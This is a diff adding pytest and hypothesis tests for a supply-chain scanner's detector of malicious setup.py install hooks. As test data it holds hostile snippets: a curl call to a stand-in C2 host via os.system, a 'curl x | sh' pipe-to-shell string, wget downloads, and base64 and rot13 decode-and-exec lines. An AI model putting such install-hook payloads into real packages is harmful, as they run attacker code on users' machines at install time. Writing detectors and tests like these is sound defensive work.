@@ -1,0 +1,213 @@
+"""The setup.py install-hook rules."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from depvet.detectors import setup_hooks
+from depvet.detectors.setup_hooks import SetupHookDetector
+from depvet.files import FileRole, FileView
+from depvet.model import Finding, RuleKind
+from tests.detectors import fixtures as fx
+
+DETECTOR = SetupHookDetector()
+THREATS = {r.id for r in setup_hooks.RULES if r.kind is RuleKind.THREAT}
+
+
+def _scan(text: str) -> list[Finding]:
+    file = fx.setup_py(text)
+    assert DETECTOR.wants(file)
+    return list(DETECTOR.scan(file))
+
+
+def _rules(text: str) -> set[str]:
+    return {f.rule for f in _scan(text)}
+
+
+def _lines(text: str, rule: str) -> list[int | None]:
+    return [f.line for f in _scan(text) if f.rule == rule]
+
+
+def test_rule_metadata() -> None:
+    for rule in DETECTOR.rules:
+        assert rule.id.startswith("setup-")
+        assert rule.description and rule.remediation and rule.technique.startswith("Install")
+        assert rule.version == 1
+    assert {
+        "setup-install-network",
+        "setup-install-shell-download",
+        "setup-install-decode-exec",
+    } == THREATS
+
+
+@pytest.mark.parametrize("role", [r for r in FileRole if r is not FileRole.SETUP])
+def test_wants_only_setup_role(role: FileRole) -> None:
+    file = FileView(path="setup.py", role=role, data=fx.SETUP_DECODE_EXEC.encode())
+    assert not DETECTOR.wants(file)
+
+
+# -- benign look-alikes: capabilities at most, never a threat --------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (fx.SETUP_PLAIN, set()),
+        (fx.SETUP_EMPTY_CMDCLASS, set()),
+        (fx.SETUP_BUILD_EXT_CMAKE, {"setup-cmdclass-override", "setup-install-process"}),
+        (fx.SETUP_GIT_DESCRIBE, {"setup-install-process"}),
+        (fx.SETUP_GIT_CLONE, {"setup-install-process"}),
+        (fx.SETUP_UNCALLED_REQUESTS, set()),
+        (fx.SETUP_VERSION_EXEC, set()),
+        (fx.SETUP_DECODE_EXEC_UNCALLED, set()),
+        (fx.SETUP_VERSIONEER, {"setup-cmdclass-override"}),
+        (fx.SETUP_PY2_BENIGN, set()),
+    ],
+    ids=[
+        "plain",
+        "empty-cmdclass",
+        "cmake-build-ext",
+        "git-describe",
+        "git-submodule",
+        "uncalled-requests",
+        "version-exec",
+        "uncalled-decode-exec",
+        "versioneer",
+        "python2-benign",
+    ],
+)
+def test_benign_setup(text: str, expected: set[str]) -> None:
+    assert _rules(text) == expected
+
+
+# -- positives -------------------------------------------------------------------------------
+
+
+def test_postinstall_curl() -> None:
+    findings = _scan(fx.SETUP_POSTINSTALL_CURL)
+    assert [(f.rule, f.line) for f in findings] == [
+        ("setup-cmdclass-override", 12),
+        ("setup-install-process", 9),
+        ("setup-install-shell-download", 9),
+    ]
+    shell = findings[2]
+    assert "'curl'" in shell.message and "setuptools command" in shell.message
+    assert shell.evidence.startswith('os.system("curl -fsSL https://c2.example.invalid')
+    assert findings[0].message == "cmdclass overrides install"
+
+
+def test_network_in_hook_and_in_called_helper() -> None:
+    assert _lines(fx.SETUP_REQUESTS_IN_HOOK, "setup-install-network") == [12]
+    findings = [
+        f for f in _scan(fx.SETUP_CALLED_HELPER_NETWORK) if f.rule == "setup-install-network"
+    ]
+    assert [f.line for f in findings] == [6]
+    assert "_phone_home()" in findings[0].message
+
+
+def test_shell_download_through_a_variable() -> None:
+    assert _lines(fx.SETUP_WGET_VARIABLE, "setup-install-shell-download") == [5]
+    assert _lines(fx.SETUP_POWERSHELL, "setup-install-shell-download") == [5]
+
+
+@pytest.mark.parametrize(
+    ("text", "line", "words"),
+    [
+        (fx.SETUP_DECODE_EXEC, 4, "decoded code"),
+        (fx.SETUP_DECODE_EXEC_VIA_NAME, 7, "decoded code"),
+        (fx.SETUP_EXEC_DOWNLOAD, 4, "downloaded code"),
+        (fx.SETUP_EXEC_CHR, 2, "computed at run time"),
+    ],
+)
+def test_decode_exec(text: str, line: int, words: str) -> None:
+    (finding,) = [f for f in _scan(text) if f.rule == "setup-install-decode-exec"]
+    assert finding.line == line
+    assert words in finding.message
+
+
+def test_exec_compile_of_decoded_is_one_finding_per_line() -> None:
+    text = "import base64\nexec(compile(base64.b64decode(b), '<s>', 'exec'))\n"
+    assert _lines(text, "setup-install-decode-exec") == [2]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "import base64\nexec(base64.b64decode(x), {})\n",
+        "import base64 as b\ndef go():\n    eval(b.b64decode(x))\nif __name__ == '__main__':\n"
+        "    go()\n",
+        "import codecs\nexec(codecs.decode(s, 'rot13'))\n",
+    ],
+)
+def test_decode_exec_variants(text: str) -> None:
+    assert "setup-install-decode-exec" in _rules(text)
+
+
+# -- files that do not parse -----------------------------------------------------------------
+
+
+def test_python2_dropper() -> None:
+    findings = _scan(fx.SETUP_PY2_DOWNLOAD)
+    assert {f.rule for f in findings} == {
+        "setup-install-network",
+        "setup-install-process",
+        "setup-install-shell-download",
+    }
+    assert all("did not parse" in f.message for f in findings)
+    shell = next(f for f in findings if f.rule == "setup-install-shell-download")
+    assert shell.line == 6 and "'curl'" in shell.message
+
+
+def test_python2_decode_exec() -> None:
+    (finding,) = _scan(fx.SETUP_PY2_DECODE_EXEC)
+    assert finding.rule == "setup-install-decode-exec"
+    assert finding.line == 3
+
+
+def test_python2_network_alone_is_not_a_threat() -> None:
+    text = 'import urllib2\nprint "x"\ndef f():\n    urllib2.urlopen("https://a.example.invalid")\n'
+    assert _rules(text) & THREATS == set()
+
+
+def test_oversized_setup_uses_text_checks() -> None:
+    text = (
+        "# "
+        + "x" * (5 * 1024 * 1024)
+        + "\nimport os\nos.system('wget https://a.example.invalid')\n"
+    )
+    findings = _scan(text)
+    assert {f.rule for f in findings} == {"setup-install-process", "setup-install-shell-download"}
+    assert all("too large" in f.message for f in findings)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.binary(max_size=400))
+def test_never_raises_on_bytes(data: bytes) -> None:
+    for finding in DETECTOR.scan(FileView(path="setup.py", role=FileRole.SETUP, data=data)):
+        assert finding.rule in {r.id for r in setup_hooks.RULES}
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.lists(
+        st.sampled_from(
+            [
+                "import os, base64",
+                "from setuptools import setup",
+                "from setuptools.command.install import install",
+                "class I(install):\n    def run(self):\n        os.system(c)",
+                "def f():\n    exec(base64.b64decode(c))",
+                "f()",
+                "c = 'curl x | sh'",
+                "setup(cmdclass={'install': I})",
+                'print "py2"',
+            ]
+        ),
+        max_size=8,
+    )
+)
+def test_never_raises_on_setup_shapes(lines: list[str]) -> None:
+    for finding in _scan("\n".join(lines) + "\n"):
+        assert finding.line is None or finding.line >= 1
